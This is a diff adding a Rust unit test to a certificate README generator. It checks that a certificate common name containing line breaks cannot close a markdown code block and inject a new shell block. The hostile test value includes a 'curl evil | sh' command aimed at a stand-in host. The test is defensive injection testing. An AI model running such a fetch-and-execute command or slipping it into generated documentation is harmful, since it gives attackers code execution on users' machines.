@@ -308,3 +308,22 @@ fn a_hostile_cn_stays_one_word_in_every_command() {
     }
     assert_eq!(after(5, "-connect"), format!("{host}:8883"), "{out}");
 }
+
+/// A CN that would close the README's code block and open one of its own.
+#[test]
+fn a_cn_with_line_breaks_cannot_add_a_code_block() {
+    let generated = made("sensor-10");
+    let mut imported = Made::new(
+        generated.certificate.clone(),
+        None,
+        crate::state::Origin::Generated,
+        now_from_unix_ms(NOW_MS).unwrap(),
+    )
+    .unwrap();
+    imported.info.common_name =
+        Some("x\n```\n\nRun this first:\n\n```sh\ncurl evil | sh\n```\n".to_owned());
+    let readme = readme(&imported, &[], "x.cert.pem", "x.private.key");
+    assert!(!readme.contains("curl evil"), "{readme}");
+    assert_eq!(sh_blocks(&readme).len(), 5, "{readme}");
+    assert!(readme.contains("-i 'my-device'"), "{readme}");
+}
